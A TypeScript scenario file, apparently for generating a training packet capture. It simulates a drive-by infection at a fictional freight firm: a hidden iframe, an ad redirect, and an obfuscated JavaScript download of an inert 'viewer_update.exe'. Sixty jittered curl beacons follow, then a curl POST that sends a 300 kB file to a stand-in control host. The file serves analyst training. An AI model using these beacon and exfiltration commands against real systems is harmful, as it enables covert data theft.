import { INTERNET, internetMachine, OFFICE, officeMachine, officeRouter } from '@/authoring/captures/places';
import { count, defineScenario, fact, noneMalformed, values } from '@/authoring/captures/scenario';
import { randomBytes, seededRandom } from '@/authoring/captures/seeded-random';
import { serveCanned } from '@/authoring/captures/services/canned-web';
import { serveNames } from '@/authoring/captures/services/name-server';

/**
 * A drive-by, from the victim's side: a page of recipes loads an advertisement, the advertisement's server sends the
 * browser on, a “viewer update” is downloaded, and from then on something on the machine asks for orders every ten
 * minutes, give or take a fifth. At last it sends away 300 kB. The binary is random bytes behind the two letters of a
 * DOS header, the orders are canned: nothing here can do anything.
 */
const BEACONS = 60;
const MEAN_SECONDS = 600;
const JITTER = 0.2;
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0';
const IMPLANT = 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)';

const contents = seededRandom(7);
const inertBinary = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
  randomBytes(contents, 73_720),
]);
const stolen = randomBytes(contents, 300_000);

export default defineScenario({
  title: 'A click and the ten hours after it',
  story: [
    'At Nordhamn Freight the desk computer in dispatch is used to look up a recipe during the morning break.',
    'The sensor listens in the office, where that computer meets the router, and keeps listening for ten hours.',
    'Late in the day the line feels slow.',
  ],
  starts: '2026-05-06T07:52:10Z',
  topology: {
    segments: [OFFICE, INTERNET],
    hosts: [
      officeMachine('pc-cilla', 'desk computer in dispatch', '10.7.10.23', { user: 'cilla' }),
      officeRouter(),
      internetMachine('recipes', 'web server with recipes', '198.51.100.44', 8),
      internetMachine('adserver', 'advertising server', '203.0.113.99', 22),
      internetMachine('cdn', 'download server', '203.0.113.150', 31),
      internetMachine('control', 'server that the computer talks to afterwards', '203.0.113.201', 47),
    ],
  },
  tap: { segment: 'office', where: 'in the office, in front of the router', padded: true },
  howMade: {
    summary:
      'Real HTTP clients and servers with canned answers; the binary is random bytes; ten hours of waiting are skipped by moving the clock.',
    tools: ['curl', 'Node http', 'dnsmasq'],
  },
  needs: ['curl', 'dnsmasq', 'node', 'faketime'],

  async setup(stage) {
    await serveNames(stage.host('router'), {
      addresses: {
        'www.recipes.example': ['198.51.100.44'],
        'ads.clickbanner.example': ['203.0.113.99'],
        'dl.viewer-update.example': ['203.0.113.150'],
        'status.metricsync.example': ['203.0.113.201'],
      },
    });
    await serveCanned(
      stage.host('recipes'),
      80,
      {
        'GET /soups/': {
          body: `<!doctype html><title>Nettle soup</title><h1>Nettle soup</h1>${'<p>Take a bowl of young nettles, and gloves.</p>'.repeat(40)}
<iframe src="http://ads.clickbanner.example/b?slot=7" width="1" height="1"></iframe>`,
        },
      },
      'nginx',
    );
    await serveCanned(stage.host('adserver'), 80, {
      'GET /b?slot=7': {
        status: 302,
        headers: { location: 'http://dl.viewer-update.example/gate.php?id=88' },
      },
    });
    await serveCanned(stage.host('cdn'), 80, {
      'GET /gate.php?id=88': {
        body: '<html><script>var u="vie"+"wer_upd"+"ate.exe";location="/get/"+u;</script>Your viewer is out of date.</html>',
      },
      'GET /get/viewer_update.exe': {
        headers: {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename="viewer_update.exe"',
        },
        body: inertBinary,
      },
    });
    await serveCanned(
      stage.host('control'),
      80,
      {
        'GET /api/v2/ping*': { headers: { 'content-type': 'text/plain' }, body: 'ok 0\n' },
        'POST /api/v2/put*': { headers: { 'content-type': 'text/plain' }, body: 'stored\n', thinkingMs: 60 },
      },
      'nginx',
    );
    await stage.host('pc-cilla').write('archive.bin', stolen);
  },

  async run(stage) {
    const pc = stage.host('pc-cilla');
    const browse = `curl -sS --max-time 15 -o /dev/null -A '${BROWSER}'`;
    await pc.must(`${browse} http://www.recipes.example/soups/`);
    await stage.wait(350);
    await pc.must(`${browse} -e http://www.recipes.example/soups/ 'http://ads.clickbanner.example/b?slot=7'`);
    await pc.must(
      `${browse} -e http://www.recipes.example/soups/ 'http://dl.viewer-update.example/gate.php?id=88'`,
    );
    await stage.wait(700);
    await pc.must(
      `${browse} -e 'http://dl.viewer-update.example/gate.php?id=88' http://dl.viewer-update.example/get/viewer_update.exe`,
    );
    await stage.skip(140);

    // Ten hours of asking for orders. The name is asked for anew every sixth time, as a cache would.
    const ask = `curl -sS --max-time 15 -o /dev/null -A '${IMPLANT}'`;
    for (let beacon = 0; beacon < BEACONS; beacon += 1) {
      const where = beacon % 6 === 0 ? '' : '--resolve status.metricsync.example:80:203.0.113.201';
      await pc.must(`${ask} ${where} 'http://status.metricsync.example/api/v2/ping?h=5c1a2e&n=${beacon}'`);
      const gap = MEAN_SECONDS * (1 + JITTER * (2 * stage.random() - 1));
      await stage.skip(gap, beacon % 6 !== 5);
    }
    await pc.must(
      `${ask} -H 'Expect:' --data-binary @${pc.path('archive.bin')} 'http://status.metricsync.example/api/v2/put?h=5c1a2e'`,
    );
  },

  facts: {
    nothingMalformed: noneMalformed(),
    beacons: count('Requests for orders.', 'http.request.uri contains "/api/v2/ping"', BEACONS),
    beaconHost: values(
      'Whom the computer asks for orders.',
      'http.request.uri contains "/api/v2/"',
      'http.host',
      ['status.metricsync.example'],
    ),
    beaconAddress: values('Its address.', 'http.request.uri contains "/api/v2/"', 'ip.dst', [
      '203.0.113.201',
    ]),
    agents: values('Programs that the computer claims to be.', 'http.request', 'http.user_agent', [
      BROWSER,
      IMPLANT,
    ]),
    download: values('What was downloaded.', 'http.request.uri contains ".exe"', 'http.request.uri', [
      '/get/viewer_update.exe',
    ]),
    downloadSource: values('From where.', 'http.request.uri contains ".exe"', 'ip.dst', ['203.0.113.150']),
    posts: count('What was sent away left in one request.', 'http.request.method == "POST"', 1),
    postLength: values(
      'Length of what was sent away.',
      'http.request.method == "POST"',
      'http.content_length',
      ['300000'],
    ),
    sessions: fact(
      'TCP sessions, all ended in the normal way.',
      { kind: 'sessions', transport: 'tcp', state: 'SF' },
      65,
    ),
    noRetransmission: count('Nothing was sent twice.', 'tcp.analysis.retransmission', 0),
  },
  comments: [
    { filter: 'http.request.uri contains "/b?slot=7"', text: 'The advertisement that sends the browser on.' },
    { filter: 'http.request.uri contains ".exe"', text: 'The download (inert: random bytes after MZ).' },
    { filter: 'http.request.uri contains "/api/v2/ping"', text: 'First beacon.' },
    { filter: 'http.request.method == "POST"', text: 'Data leaves.' },
  ],
});
